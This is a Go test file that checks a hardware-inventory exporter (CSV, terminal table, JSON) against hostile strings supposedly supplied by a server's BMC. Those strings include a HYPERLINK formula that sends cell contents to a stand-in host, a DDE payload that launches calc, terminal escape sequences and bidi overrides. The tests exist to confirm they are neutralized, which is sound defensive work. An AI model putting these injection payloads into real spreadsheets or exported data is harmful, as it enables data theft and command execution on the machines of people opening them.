package lifecycle

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/prefail/prefail/model"
)

// hostileInventory is one target whose BMC fills every text field with
// formulas, escape sequences, bidi overrides, newlines and a megabyte.
func hostileInventory(t *testing.T) *Inventory {
	t.Helper()
	at := time.Date(2026, 1, 15, 0, 0, 0, 0, time.UTC)
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(A1:A9)",
		"  =1+1",
		"\t=1+1",
		"\r=1+1",
		"\uFF1D1+1", // full-width equals sign
		"Fan\x1b[31m red\x1b[0m\nsecond line",
		"\u202eevil\u202c model",
		strings.Repeat("A", 1<<20),
	}
	var comps []model.Component
	for i, h := range hostile {
		comps = append(comps, model.Component{Kind: model.KindPSU, ID: h + string(rune('a'+i)), Name: h, Location: h, Health: model.HealthOK,
			Inventory: model.Inventory{Manufacturer: h, Model: h, SerialNumber: h, PartNumber: h, FirmwareVersion: h, ManufactureDate: h}})
	}
	b, err := NewBuilder()
	if err != nil {
		t.Fatal(err)
	}
	if err := b.Add("https://bmc1.example.com", &model.Snapshot{Time: at, Components: comps}); err != nil {
		t.Fatal(err)
	}
	return b.Inventory()
}

// formulaStart reports whether a spreadsheet would read cell as a formula.
func formulaStart(cell string) bool {
	s := strings.TrimLeftFunc(cell, unicode.IsSpace)
	return s != "" && strings.ContainsRune("=+-@\uFF1D\uFF0B\uFF0D\uFF20", []rune(s)[0])
}

// CSV from hostile BMC strings: one record per part with every column,
// no text cell a spreadsheet would execute, no control character, and
// the text otherwise kept.
func TestWriteCSVInjection(t *testing.T) {
	inv := hostileInventory(t)
	var buf bytes.Buffer
	if err := inv.WriteCSV(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse back: %v", err)
	}
	if len(recs) != 1+inv.Len() {
		t.Fatalf("%d records; want a header and %d rows", len(recs), inv.Len())
	}
	if diff := cmp.Diff(CSVHeader(), recs[0]); diff != "" {
		t.Errorf("header (-want +got):\n%s", diff)
	}
	models, ids := map[string]bool{}, map[string]bool{}
	for _, rec := range recs[1:] {
		if len(rec) != len(CSVHeader()) {
			t.Fatalf("a record of %d cells: %q", len(rec), rec)
		}
		for i, cell := range rec {
			if formulaStart(cell) {
				t.Errorf("column %s: cell %.60q would run as a formula", recs[0][i], cell)
			}
			if strings.IndexFunc(cell, unicode.IsControl) >= 0 {
				t.Errorf("column %s: cell %.60q holds a control character", recs[0][i], cell)
			}
			if len(cell) > 4*maxField {
				t.Errorf("column %s: a cell of %d bytes", recs[0][i], len(cell))
			}
		}
		models[rec[6]] = true
		ids[rec[2]] = true
	}
	// Models are trimmed (they group parts); ids are kept as given.
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)",
		"'=1+1", "'\uFF1D1+1", "Fan [31m red [0m second line", "\u202eevil\u202c model", strings.Repeat("A", maxField)} {
		if !models[want] {
			t.Errorf("model cell %.60q missing; have %q", want, keys(models))
		}
	}
	for _, want := range []string{"'  =1+1e", "' =1+1f", "' =1+1g"} {
		if !ids[want] {
			t.Errorf("component cell %.60q missing; have %q", want, keys(ids))
		}
	}
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k[:min(len(k), 40)])
	}
	return out
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"=1":           "'=1",
		"Seagate":      "Seagate",
		"1.2.0":        "1.2.0",
		"a=b":          "a=b",
		"\u00a0@x":     "'\u00a0@x",
		"line\nbreak":  "line break",
		"\uFF20import": "'\uFF20import",
	} {
		if got := safeCell(in); got != want {
			t.Errorf("safeCell(%q) = %q; want %q", in, got, want)
		}
	}
}

// The table from hostile strings: no escape or control character reaches
// the terminal, each part is one line, and long text is cut.
func TestWriteTableHostile(t *testing.T) {
	inv := hostileInventory(t)
	var buf bytes.Buffer
	if err := inv.WriteTable(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, r := range out {
		if r != '\n' && (unicode.IsControl(r) || !unicode.IsPrint(r) && r != ' ') {
			t.Fatalf("the table holds %U", r)
		}
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	parts := 0
	for i, l := range lines {
		if l == "Parts:" {
			parts = len(lines) - i - 2 // the heading and the column names
		}
		if len(l) > 2000 {
			t.Errorf("a line of %d bytes", len(l))
		}
	}
	if parts != inv.Len() {
		t.Errorf("%d part lines; want %d:\n%s", parts, inv.Len(), out)
	}
	if !strings.Contains(out, "?evil? model") {
		t.Errorf("the bidi override is not replaced:\n%s", out)
	}
}

// The JSON document from hostile strings decodes back to the same rows.
func TestWriteJSONRoundTrip(t *testing.T) {
	inv := hostileInventory(t)
	var buf bytes.Buffer
	if err := inv.WriteJSON(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		SchemaVersion    int               `json:"schema_version"`
		Summary          Summary           `json:"summary"`
		FirmwareOutliers []FirmwareOutlier `json:"firmware_outliers"`
		Rows             []Row             `json:"rows"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.SchemaVersion != SchemaVersion || doc.Summary.Parts != inv.Len() || len(doc.Rows) != inv.Len() {
		t.Fatalf("schema %d, %d parts, %d rows; want %d rows", doc.SchemaVersion, doc.Summary.Parts, len(doc.Rows), inv.Len())
	}
	for i, r := range inv.Rows() {
		if diff := cmp.Diff(r, doc.Rows[i]); diff != "" {
			t.Errorf("row %d (-want +got):\n%s", i, diff)
		}
	}
}

// A canceled context stops the writers.
func TestWritersCanceled(t *testing.T) {
	inv := hostileInventory(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for name, write := range map[string]func(context.Context, *bytes.Buffer) error{
		"csv":   func(ctx context.Context, b *bytes.Buffer) error { return inv.WriteCSV(ctx, b) },
		"json":  func(ctx context.Context, b *bytes.Buffer) error { return inv.WriteJSON(ctx, b) },
		"table": func(ctx context.Context, b *bytes.Buffer) error { return inv.WriteTable(ctx, b) },
	} {
		if err := write(ctx, &bytes.Buffer{}); !errors.Is(err, context.Canceled) {
			t.Errorf("%s: %v; want context.Canceled", name, err)
		}
	}
}

func TestWearCell(t *testing.T) {
	for _, tt := range []struct {
		row  Row
		want string
	}{
		{Row{SpeedLossPercent: ptr(20)}, "speed -20%"},
		{Row{SpeedLossPercent: ptr(-5.26)}, "speed +5.3%"},
		{Row{SpeedLossPercent: ptr(0)}, "speed +0%"},
		{Row{EfficiencyLossPoints: ptr(4.04)}, "eff -4 pts"},
		{Row{PercentageUsed: ptr(85), SectorGrowth: ptr(8)}, "85% used, +8 sectors"},
		{Row{}, ""},
	} {
		if got := wearCell(&tt.row); got != tt.want {
			t.Errorf("wearCell(%+v) = %q; want %q", tt.row, got, tt.want)
		}
	}
}
